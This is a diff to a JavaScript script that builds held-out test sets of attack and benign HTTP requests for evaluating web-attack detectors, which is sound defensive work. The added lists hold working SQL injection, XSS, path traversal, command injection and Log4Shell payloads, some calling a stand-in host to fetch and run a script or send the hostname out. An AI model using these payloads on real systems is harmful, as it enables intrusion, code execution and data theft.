@@ -341,10 +341,81 @@ for (let i = 0; i < 60; i++) {
   if (i % 3 === 0) B('query', 'GET', `/calendar?from=2024-0${1 + (i % 9)}-01&to=2024-0${1 + (i % 9)}-28&view=month&tz=${full('Europe/London')}`);
 }
 
+
+// ---------------------------------------------------------------- held out
+// Written after the detectors were tuned on the sets above and never used to
+// tune them: their figures estimate accuracy on traffic the rules were not fitted to.
+const holdAttacks = [];
+const HA = (label, method, target, extra) => holdAttacks.push(req(label, method, target, extra));
+[
+  "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT version()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
+  "' OR EXISTS(SELECT * FROM users WHERE name='admin')--", '99999 UNION SELECT table_name FROM information_schema.tables',
+  "abc' OR 'x'='x'; --", "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", '2 AND 3>2', "\" or 1=1 limit 1 -- -", "1'))) OR 1=1#",
+  "'; SHUTDOWN WITH NOWAIT; --", "1 AND (SELECT * FROM (SELECT(SLEEP(3)))abc)", "name' AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>116--",
+  "1%27%20or%20%271%27%3D%271", "-5 OR 7=7", "' OR username LIKE '%adm%",
+].forEach((p, i) => HA('sqli', i % 2 ? 'POST' : 'GET', i % 2 ? '/account/lookup' : `/catalog?pid=${full(p)}`, i % 2 ? { body: `email=${form(p)}` } : {}));
+[
+  '<img src=1 onmouseover=alert(1)>', '<svg><g onload="javascript:alert(1)"></g></svg>', '<a href="JaVaScRiPt:alert(1)">go</a>',
+  '<iframe/src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>', '"onmouseover="alert(1)', "</title><script>alert(1)</script>",
+  '<audio src=x onerror=alert(1)>', '<link rel=import href=//198.18.0.66/x>', '<table background="javascript:alert(1)">', "';confirm(1);'",
+  '<p onclick=alert(1)>click me</p>', '<object type="text/x-scriptlet" data="http://198.18.0.66/x.sct"></object>',
+].forEach((p, i) => HA('xss', 'GET', `/profile?${['name', 'bio', 'city'][i % 3]}=${i % 2 ? full(p) : light(p)}`));
+[
+  '../../../../../../boot.ini', '..%2F..%2F..%2Fetc%2Fgroup', 'C:\\..\\..\\Windows\\win.ini', '..//..//..//etc/passwd', '.%2e/.%2e/.%2e/etc/passwd',
+  '/proc/self/cmdline', 'file:///c:/windows/win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '../../../../../etc/passwd%00', '..%5C..%5C..%5Cinetpub%5Cwwwroot%5Cweb.config',
+].forEach((p, i) => HA('traversal', 'GET', `/view?${['f', 'name', 'file', 'tpl'][i % 4]}=${/%|\\/.test(p) ? p.replace(/\\/g, '%5C') : light(p)}`));
+[
+  'example.com | cat /etc/hosts', '127.0.0.1;id;', '$(id)', 'x`uname`', '127.0.0.1 & whoami', 'a|wget -qO- http://198.18.0.66/s|sh',
+  '8.8.8.8;sleep 3', "||ping -c 4 198.18.0.66||", '1;cat${IFS}/etc/passwd', 'foo && curl http://198.18.0.66/?$(hostname)',
+].forEach((p, i) => HA('cmdi', i % 2 ? 'POST' : 'GET', i % 2 ? '/device/diagnostics' : `/net/lookup?addr=${full(p)}`, i % 2 ? { body: `addr=${form(p)}` } : {}));
+[
+  '${jndi:ldap://198.18.0.66/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}', '${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://198.18.0.66/x}',
+  '${${::-J}${::-n}${::-D}${::-i}:${::-r}${::-m}${::-i}://198.18.0.66/x}', '${jndi:ldap://${env:USER}.198.18.0.66/x}', '${${upper:${lower:j}}ndi:dns://198.18.0.66}',
+  '%24%7Bjndi:ldap://198.18.0.66/z%7D',
+].forEach((p, i) => HA('jndi', 'GET', i % 2 ? `/?q=${p.startsWith('%') ? p : full(p)}` : '/', i % 2 ? {} : { headers: { 'X-Client-Data': p } }));
+[
+  'Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)', 'sqlmap/1.5.11#stable (http://sqlmap.org)', 'Nikto', 'masscan-ng/1.3',
+  'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:77.0) Gecko/20100101 Firefox/77.0 (nuclei)', 'WPScan v3.8.25', 'gobuster/3.1.0', 'zgrab/0.x',
+].forEach((ua, i) => HA('scanner', 'GET', ['/', '/login', '/api/', '/.env'][i % 4], { headers: { 'User-Agent': ua } }));
+
+const holdBenign = [];
+const HB = (kind, method, target, extra) => holdBenign.push({ ...req('benign', method, target, extra), kind });
+[
+  "Shaquille O'Neal stats", "Baker's dozen recipe", "it's a bird, it's a plane", 'select comfort mattress', 'union jack flag', 'drop the mic meaning',
+  "McDonald's breakfast hours", 'table for two', 'where is my refund', 'or else movie', 'and then there were none', '1 + 1 = 2', "5' 2\" tall",
+  "women's shoes size 8", "'quoted' search", 'rock & roll hall of fame', 'A&W root beer', 'M&Ms colors', 'ping identity jobs', 'cat in the hat',
+  'the sleep cycle app', 'echo park los angeles', 'kill the lights lyrics', 'head first java', 'ls 2024 model', "Hershey's kisses", 'who is on first',
+  "let's go", '100% cotton t-shirt', 'AT&T fiber', 'x + y > z', 'if then else flowchart', 'script font generator', 'javascript array map', 'path of exile',
+  "d'Artagnan", "l'Oréal paris", "can't stop won't stop", 'SELECT * tutorial for beginners', 'html <br> tag', 'less than < greater than >',
+].forEach((q, i) => {
+  HB('search', 'GET', `/search?q=${form(q)}`);
+  HB('search', 'POST', '/api/search', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ q, page: i % 4 }) });
+  HB('search', 'GET', `/shop?term=${full(q)}&sort=popular`);
+});
+[
+  'Hi team,\nplease review PR #42; it fixes the login bug & adds tests.\nThanks, Ana', 'Recipe: 2 cups flour, 1/2 cup sugar; mix & bake at 180°C for 25-30 min.',
+  "I've tried rebooting, clearing the cache (Ctrl+Shift+R) and logging out/in — still broken.", 'My address is 10 Downing St., London SW1A 2AA.',
+  "The function returns -1 if the value isn't found; otherwise the index.", 'Use a = b || c; to default a value in JS.',
+  "Rating: 4/5 — good value. Delivery took 3 days; packaging was fine.", 'See section 3.2 (pp. 14-16) and the appendix.',
+  'npm run build && npm test', 'Quote of the day: "Simplicity is prerequisite for reliability."',
+].forEach((t, i) => {
+  HB('form', 'POST', '/messages', { body: `to=${form('support')}&text=${form(t)}&priority=${i % 3}` });
+  HB('form', 'POST', '/api/tickets', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ description: t, tags: ['help'] }) });
+});
+['/shop/mens/shirts?size=L&color=blue', '/images/2024/05/photo.final.v3.jpeg', '/docs/v1.2.3/api.html#section-2', '/u/jane.doe', '/static/app.3f9a.js',
+ '/api/users/42/orders?status=shipped&from=2024-01-01', '/blog/what-i-learned-in-2023', '/files/Q1%202024%20report.pdf', '/download/setup_x64.msi',
+ '/search?q=%22exact+phrase%22', '/wiki/Rock_%27n%27_roll', '/maps/@47.60,-122.33,12z'].forEach((p) => {
+  HB('path', 'GET', p);
+  HB('path', 'GET', p, { headers: { Cookie: "session=f00ba4; recent=shirts%2Cjeans; name=O'Hara" } });
+});
+
 const attacksOut = attacks.map((r, i) => JSON.stringify({ id: `a${String(i + 1).padStart(4, '0')}`, ...r })).join('\n') + '\n';
 const benignOut = benign.map((r, i) => JSON.stringify({ id: `b${String(i + 1).padStart(4, '0')}`, ...r })).join('\n') + '\n';
 writeFileSync(join(here, 'attacks.jsonl'), attacksOut);
 writeFileSync(join(here, 'benign.jsonl'), benignOut);
 const count = (xs) => xs.reduce((m, r) => ({ ...m, [r.label === 'benign' ? r.kind : r.label]: (m[r.label === 'benign' ? r.kind : r.label] ?? 0) + 1 }), {});
+writeFileSync(join(here, 'attacks-holdout.jsonl'), holdAttacks.map((r, i) => JSON.stringify({ id: `ha${String(i + 1).padStart(3, '0')}`, ...r })).join('\n') + '\n');
+writeFileSync(join(here, 'benign-holdout.jsonl'), holdBenign.map((r, i) => JSON.stringify({ id: `hb${String(i + 1).padStart(3, '0')}`, ...r })).join('\n') + '\n');
 console.log(`attacks: ${attacks.length}`, count(attacks));
+console.log(`held out: ${holdAttacks.length} attacks, ${holdBenign.length} benign`);
 console.log(`benign: ${benign.length}`, count(benign));
